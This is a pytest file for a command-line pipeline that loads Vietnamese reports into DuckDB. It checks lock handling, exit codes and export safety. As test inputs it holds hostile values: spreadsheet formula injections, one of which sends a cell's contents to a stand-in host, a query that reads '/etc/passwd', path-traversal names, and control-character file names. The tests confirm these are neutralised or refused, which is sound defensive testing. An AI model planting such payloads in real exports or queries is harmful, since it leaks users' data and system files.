"""Exit codes and outputs under contention and hostile names (issue 17 items 4, 5, 7, 9, 12): a busy
database is one line naming the holder and exit 3, a foreign one is refused unchanged with exit 2, an
unwritable output is exit 4 with no half file, exports hold no live formula and no control character,
and `query` runs only catalog names on a connection that cannot touch files."""

from __future__ import annotations

import csv
import subprocess
import sys
import time
from pathlib import Path

import duckdb
import openpyxl
import pytest

from pipeline import store
from pipeline.ingest import ingest
from pipeline.read import queries

REPORT = """BÁO CÁO
Kết quả tiêm chủng mở rộng năm 2024

Năm 2024, huyện tiêm đủ mũi cho 2.000 trẻ, trong đó trẻ dưới 1 tuổi 500 trẻ, chiếm 30%.
"""


def _baocao(*args: str, timeout: float = 120) -> subprocess.CompletedProcess:
    return subprocess.run([sys.executable, "-m", "pipeline", *args], capture_output=True, text=True, timeout=timeout)


@pytest.fixture(scope="module")
def db(tmp_path_factory) -> Path:
    d = tmp_path_factory.mktemp("trust")
    (d / "in").mkdir()
    (d / "in" / "=HYPERLINK(1)+bc.txt").write_text(REPORT, encoding="utf-8")
    (d / "in" / "bell\x07name.txt").write_text(REPORT.replace("2.000", "2.100"), encoding="utf-8")
    path = d / "t.duckdb"
    s = ingest([d / "in"], path, workers=1)
    assert s.documents == 2, s.failures
    return path


def _holder(code: str) -> subprocess.Popen:
    p = subprocess.Popen([sys.executable, "-c", code + "\nprint('ready', flush=True)\nimport time; time.sleep(60)"],
                         stdout=subprocess.PIPE, text=True)
    assert p.stdout.readline().strip() == "ready"
    return p


@pytest.mark.parametrize("how", ["baocao writer", "raw duckdb"])
def test_busy_database_is_one_line_naming_the_holder_and_exit_3(db: Path, tmp_path: Path, how: str) -> None:
    code = (f"from pipeline import store; cm = store.writer({str(db)!r}); cm.__enter__()" if how == "baocao writer"
            else f"import duckdb; con = duckdb.connect({str(db)!r})")
    holder = _holder(code)
    try:
        for args in (["mismatches", "--db", str(db)], ["ingest", str(tmp_path), "--db", str(db)],
                     ["export", "--db", str(db), "--table", "facts", "--format", "csv",
                      "--out", str(tmp_path / "x.csv")]):
            r = _baocao(*args)
            assert r.returncode == 3, (args, r.stderr)
            lines = [ln for ln in r.stderr.splitlines() if ln.strip()]
            assert len(lines) == 1 and "busy" in lines[0] and f"pid {holder.pid}" in lines[0], r.stderr
            assert not (tmp_path / "x.csv").exists()
    finally:
        holder.kill()
        holder.wait()


def test_reader_never_blocks_a_running_ingest_between_scan_and_first_commit(db: Path, tmp_path: Path) -> None:
    # While ingest holds the lock file, our readers are refused instead of opening the database in the
    # moment the writer's connection is closed for the fork.
    with store.hold(db, exclusive=True):
        r = _baocao("mismatches", "--db", str(db))
    assert r.returncode == 3 and "being written" in r.stderr


def test_a_foreign_duckdb_file_is_refused_unchanged_with_exit_2(tmp_path: Path) -> None:
    foreign = tmp_path / "theirs.duckdb"
    con = duckdb.connect(str(foreign))
    con.execute("CREATE TABLE ledger (id INTEGER, amount DOUBLE)")
    con.close()
    before = foreign.read_bytes()
    (tmp_path / "in").mkdir()
    (tmp_path / "in" / "a.txt").write_text(REPORT, encoding="utf-8")
    for args in (["ingest", str(tmp_path / "in"), "--db", str(foreign)], ["mismatches", "--db", str(foreign)]):
        r = _baocao(*args)
        assert r.returncode == 2 and "not a baocao database" in r.stderr, r.stderr
        assert len(r.stderr.strip().splitlines()) == 1
    assert foreign.read_bytes() == before
    text_file = tmp_path / "notes.duckdb"
    text_file.write_text("not a database", encoding="utf-8")
    r = _baocao("ingest", str(tmp_path / "in"), "--db", str(text_file))
    assert r.returncode == 2 and text_file.read_text(encoding="utf-8") == "not a database"


def test_unwritable_outputs_are_one_line_and_exit_4_with_no_file_left(db: Path, tmp_path: Path) -> None:
    blocker = tmp_path / "file"
    blocker.write_text("x", encoding="utf-8")
    for args in (["report", "--db", str(db), "--out", str(blocker / "r.html")],
                 ["export", "--db", str(db), "--table", "checks", "--format", "xlsx",
                  "--out", str(blocker / "c.xlsx")]):
        r = _baocao(*args)
        assert r.returncode == 4, r.stderr
        assert "Traceback" not in r.stderr and len(r.stderr.strip().splitlines()) == 1
    assert sorted(p.name for p in tmp_path.iterdir()) == ["file"]


def test_exports_neutralise_formulas_and_control_characters_and_keep_numbers(db: Path, tmp_path: Path) -> None:
    copy = tmp_path / "r.duckdb"
    copy.write_bytes(db.read_bytes())
    with store.reader(copy) as con:
        check_ids = [r[0] for r in con.execute("SELECT check_id FROM mismatches").fetchall()]
    assert check_ids, "the report states 30% of 500/2000"
    for cid in check_ids:
        store.record_review(copy, cid, "confirmed", '=HYPERLINK("http://x.invalid/?"&A1,"xem")', "@kiểm\x07toán")
    xlsx, csv_out = tmp_path / "m.xlsx", tmp_path / "m.csv"
    for fmt, out in (("xlsx", xlsx), ("csv", csv_out)):
        r = _baocao("export", "--db", str(copy), "--table", "mismatches", "--every-file", "--format", fmt,
                    "--out", str(out))  # both files: they are one report (near-identical texts)
        assert r.returncode == 0, r.stderr
    ws = openpyxl.load_workbook(xlsx).active
    header = [c.value for c in ws[1]]
    rows = list(ws.iter_rows(min_row=2))
    notes = [row[header.index("review_note")] for row in rows]
    assert notes and all(c.data_type != "f" and c.value.startswith("'=HYPERLINK") for c in notes)
    paths = [row[header.index("path")].value for row in rows]
    assert all("\x07" not in p for p in paths) and any("\ufffd" in p for p in paths)
    assert all(isinstance(row[header.index("stated")].value, int | float) for row in rows)
    with csv_out.open(encoding="utf-8", newline="") as fh:
        got = list(csv.DictReader(fh))
    assert got and all(r["review_note"].startswith("'=") for r in got)
    assert all("\x07" not in v for r in got for v in r.values())
    assert all(float(r["stated"]) == 30 for r in got)


def test_query_runs_only_catalog_names_and_cannot_reach_files(db: Path, tmp_path: Path) -> None:
    evil = tmp_path / "evil.sql"
    evil.write_text("-- title: x\nSELECT * FROM read_csv('/etc/passwd')\n", encoding="utf-8")
    rel = Path("..") / ".." / evil.with_suffix("")
    for name in (str(evil.with_suffix("")), str(rel), "../queries/mismatches"):
        r = _baocao("query", name, "--db", str(db))
        assert r.returncode == 2 and "no query named" in r.stderr, (name, r.stderr)
    with store.reader(db) as con:
        with pytest.raises(duckdb.Error, match="disabled"):
            con.execute("SELECT * FROM read_csv('/etc/passwd')")
        with pytest.raises(duckdb.Error):
            con.execute(f"COPY (SELECT 1) TO '{tmp_path / 'out.csv'}'")
    assert queries.catalog_names() and not (tmp_path / "out.csv").exists()


def test_ingest_summary_and_failures_reach_the_terminal_without_control_characters(tmp_path: Path) -> None:
    d = tmp_path / "in"
    d.mkdir()
    (d / "esc\x1b[31mred.txt").write_bytes(b"")  # empty: a failure whose name is printed
    t0 = time.perf_counter()
    r = _baocao("ingest", str(d), "--db", str(tmp_path / "a.duckdb"))
    assert r.returncode == 1 and time.perf_counter() - t0 < 120
    assert "\x1b" not in r.stderr and "\x1b" not in r.stdout
